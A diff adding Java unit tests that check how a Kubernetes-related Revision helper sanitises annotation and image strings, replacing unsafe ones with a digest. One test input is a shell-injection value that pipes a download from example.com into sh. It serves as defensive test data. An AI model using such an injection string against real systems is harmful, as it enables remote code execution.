@@ -46,6 +46,32 @@ class RevisionTest {
         assertThat(Revision.of(template, null)).hasValue("shop:v1");
     }
 
+    @ParameterizedTest
+    @ValueSource(strings = {"v1 final", "x'; curl example.com | sh; '", "-v1", "v1\\nv2"})
+    void text_that_could_be_taken_for_something_else_is_told_by_its_digest(String text) {
+        // Given
+        var annotated = Workloads.written(
+                "metadata: {annotations: {migrations.coderanger.net/revision: \"" + text + "\"}}",
+                "spec: {containers: [{name: app, image: 'shop:v1'}]}");
+        var image = Workloads.written("spec: {containers: [{name: app, image: \"" + text + "\"}]}");
+        // Then
+        assertThat(Revision.of(annotated, null))
+                .hasValueSatisfying(revision -> assertThat(revision).matches("illegal-[0-9a-f]{16}"));
+        assertThat(Revision.of(image, null)).isEqualTo(Revision.of(annotated, null));
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "registry.example.com:5000/shop/web:v1.2.3_4",
+                "shop@sha256:ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad",
+                "2026-11-21+1"
+            })
+    void what_images_and_versions_are_called_stays_as_it_is(String text) {
+        assertThat(Revision.of(Workloads.written("spec: {containers: [{name: app, image: \"" + text + "\"}]}"), null))
+                .hasValue(text);
+    }
+
     @Test
     void a_template_without_containers_or_without_image_has_no_revision() {
         assertThat(Revision.of(new PodTemplateSpec(), null)).isEmpty();
